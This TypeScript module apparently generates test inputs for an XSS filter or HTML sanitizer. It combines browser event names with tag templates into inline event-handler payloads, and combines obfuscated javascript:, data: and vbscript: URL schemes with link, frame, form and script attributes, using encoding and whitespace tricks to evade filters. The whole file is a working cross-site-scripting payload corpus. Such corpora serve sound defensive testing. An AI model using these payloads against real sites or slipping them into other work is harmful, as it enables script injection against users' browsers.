import { CALL, combineAll } from "./xss-common.ts";

const events =
  "error load focus toggle begin end click mouseover pointerenter animationstart animationend transitionend scroll scrollend beforeinput beforetoggle contentvisibilityautostatechange wheel cancel auxclick loadstart play canplay pageshow hashchange message beforematch securitypolicyviolation unhandledrejection formdata submit invalid search".split(
    " ",
  );

const carriers = [
  (event: string) => `<img src=x on${event}=${CALL}>`,
  (event: string) => `<svg on${event}=${CALL}>`,
  (event: string) => `<p on${event}="${CALL}" style="animation:x" contenteditable>x</p>`,
  (event: string) => `<details open on${event}='${CALL}'><summary>x</summary></details>`,
  (event: string) => `<input autofocus tabindex=1 on${event}=${CALL}>`,
  (event: string) => `<a/href="x"/on${event}=${CALL}>x</a>`,
  (event: string) => `<video src=x autoplay on${event}\t=\n${CALL}></video>`,
  (event: string) => `<x tabindex=1 ON${event.toUpperCase()}=${CALL}>x</x>`,
  (event: string) => `<body on${event}=${CALL}>`,
  (event: string) => `<img src="x"\u000con${event}=${CALL}//>`,
  (event: string) => `<td background=x on${event}=${CALL}>x</td>`,
  (event: string) => `"on${event}=${CALL} autofocus x="`,
  (event: string) => `'><audio src=x on${event}=${CALL}>`,
  (event: string) => `<img """><img src=x on${event}="${CALL}">`,
  (event: string) => `<iframe on${event}=${CALL} srcdoc=x></iframe>`,
  (event: string) => `<object data=x on${event}=${CALL}></object>`,
  (event: string) => `<style on${event}=${CALL}>@keyframes x{}</style>`,
  (event: string) => `<select autofocus on${event}=${CALL}><option>x</select>`,
  (event: string) => `<marquee on${event}=${CALL}>x</marquee>`,
  (event: string) => `<link rel=stylesheet href=/x on${event}=${CALL}>`,
  (event: string) => `<strong\u2028on${event}=${CALL} tabindex=1>x</strong>`,
  (event: string) => `<em class="x"on${event}=${CALL} id=x>x</em>`,
  (event: string) => `<li &#111;n${event}=${CALL} on${event}&#61;${CALL}>x</li>`,
];

export const eventHandlers = combineAll(events, carriers, (event, carrier) => carrier(event));

export const schemes = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  ` javascript:${CALL}`,
  `&#106;avascript:${CALL}`,
  `&#x6A&#x61vascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `javascript:%70wn()`,
  `javascript://x%0a${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `vbscript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `blob:javascript:${CALL}`,
  `filesystem:javascript:${CALL}`,
  `http://x\njavascript:${CALL}`,
  `\ufeffjavascript:${CALL}`,
  `ｊavascript:${CALL}`,
];

const addresses = [
  (to: string) => `<a href="${to}">x</a>`,
  (to: string) => `<a href='${to}' target=_blank>x</a>`,
  (to: string) => `<area href="${to}">`,
  (to: string) => `<iframe src="${to}"></iframe>`,
  (to: string) => `<embed src="${to}">`,
  (to: string) => `<object data="${to}"></object>`,
  (to: string) => `<form action="${to}"><button>x</button></form>`,
  (to: string) => `<button formaction="${to}">x</button>`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<base href="${to}">`,
  (to: string) => `<link rel=stylesheet href="${to}">`,
  (to: string) => `<meta http-equiv=refresh content="0;url=${to}">`,
  (to: string) => `<svg><a xlink:href="${to}"><text y=9>x</text></a></svg>`,
  (to: string) => `<math href="${to}">x</math>`,
  (to: string) => `<video poster="${to}"></video>`,
  (to: string) => `<script src="${to}"></script>`,
  (to: string) => `<table background="${to}"><tr><td>x</table>`,
  (to: string) => `<blockquote cite="${to}">x</blockquote>`,
  (to: string) => `<a href="x" href="${to}">x</a>`,
  (to: string) => `<a rel="noopener" href=\n"${to}" ping="${to}">x</a>`,
];

export const protocols = combineAll(addresses, schemes, (address, scheme) => address(scheme));
